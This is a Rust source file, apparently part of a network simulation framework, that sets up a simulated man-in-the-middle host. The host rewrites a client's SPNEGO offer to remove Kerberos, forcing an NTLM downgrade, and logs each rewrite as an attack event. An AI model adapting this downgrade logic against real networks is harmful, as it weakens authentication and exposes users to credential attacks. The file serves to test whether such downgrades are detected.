//! The attacker host: a man-in-the-middle on the way to an application
//! server. The scenario gives it the server's name as an alias (a poisoned
//! DNS answer or ARP spoof: clients that ask for the server reach the
//! attacker), and it forwards every connection to the real server.
//!
//! With `strip_kerberos`, it rewrites the client's first SPNEGO token
//! (RFC 4178 NegTokenInit): Kerberos (both OIDs) leaves the mechanism list
//! and the optimistic Kerberos token is dropped, so the server picks NTLM:
//! the downgrade the mechListMIC (RFC 4178 §5) exists to detect. Blocking
//! port 88 to force NTLM is a firewall rule, not this program.
//!
//! Each rewrite is an `attack` event in the trace.

use std::net::{Ipv4Addr, SocketAddr};

use kerbside_net::{Net, TcpListen};
use kerbside_server::sample_proto::{self, FrameDecoder, token_flags};
use kerbside_wire::gss::oid;
use kerbside_wire::spnego::NegotiationToken;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::HostCtx;
use super::app::DEFAULT_APP_PORT;
use crate::world::World;

/// Removes Kerberos from a client's initial SPNEGO token; `None` when the
/// token is not one (it is forwarded unchanged).
pub fn strip_kerberos(token: &[u8]) -> Option<Vec<u8>> {
    let NegotiationToken::Init(mut init) = NegotiationToken::decode(token).ok()? else {
        return None;
    };
    let is_krb = |m: &kerbside_wire::der::Oid| *m == oid::KRB5 || *m == oid::MS_KRB5;
    if !init.mech_types.iter().any(is_krb) {
        return None;
    }
    let first_was_krb = init.mech_types.first().is_some_and(is_krb);
    init.mech_types.retain(|m| !is_krb(m));
    if first_was_krb {
        // The optimistic token belonged to Kerberos.
        init.mech_token = None;
    }
    Some(NegotiationToken::Init(init).encode_initial())
}

pub(crate) async fn run(ctx: HostCtx) -> turmoil::Result {
    let opts = ctx
        .host
        .attacker
        .clone()
        .ok_or_else(|| format!("attacker {} has no [host.attacker] options", ctx.host.name))?;
    let port = opts.port.unwrap_or(DEFAULT_APP_PORT);
    let listener = ctx
        .net
        .bind_tcp(SocketAddr::from((Ipv4Addr::UNSPECIFIED, port)))
        .await?;
    loop {
        let Ok((client, peer)) = listener.accept().await else {
            continue;
        };
        let net = ctx.net.clone();
        let world = ctx.world().clone();
        let me = ctx.host.name.clone();
        let target = opts.target.clone();
        let strip = opts.strip_kerberos;
        tokio::task::spawn_local(async move {
            let Ok(addr) = net.resolve(&target, port).await else {
                return;
            };
            let Ok(server) = net.connect(addr).await else {
                return;
            };
            proxy(client, server, strip, &world, &me, peer).await;
        });
    }
}

/// Forwards both ways; the client's frames pass through the decoder so the
/// first CONTEXT token can be rewritten.
async fn proxy<S>(client: S, server: S, strip: bool, world: &World, me: &str, peer: SocketAddr)
where
    S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin,
{
    let (mut cr, mut cw) = tokio::io::split(client);
    let (mut sr, mut sw) = tokio::io::split(server);
    let upstream = async {
        let mut dec = FrameDecoder::default();
        let mut buf = [0u8; 4096];
        let mut first_context = true;
        loop {
            let n = cr.read(&mut buf).await.unwrap_or(0);
            if n == 0 {
                let _ = sw.shutdown().await;
                return;
            }
            dec.push(buf.get(..n).unwrap_or_default());
            loop {
                let frame = match dec.next_frame() {
                    Ok(Some(f)) => f,
                    Ok(None) => break,
                    Err(_) => return,
                };
                let mut token = frame.token;
                if strip && first_context && frame.flags & token_flags::CONTEXT != 0 {
                    first_context = false;
                    if let Some(t) = strip_kerberos(&token) {
                        world.record_event(
                            "attack",
                            format!("{me} stripped Kerberos from the SPNEGO offer of {peer}"),
                        );
                        token = t;
                    }
                }
                if sw
                    .write_all(&sample_proto::encode(frame.flags, &token))
                    .await
                    .is_err()
                {
                    return;
                }
            }
        }
    };
    let downstream = async {
        let _ = tokio::io::copy(&mut sr, &mut cw).await;
        let _ = cw.shutdown().await;
    };
    tokio::join!(upstream, downstream);
}
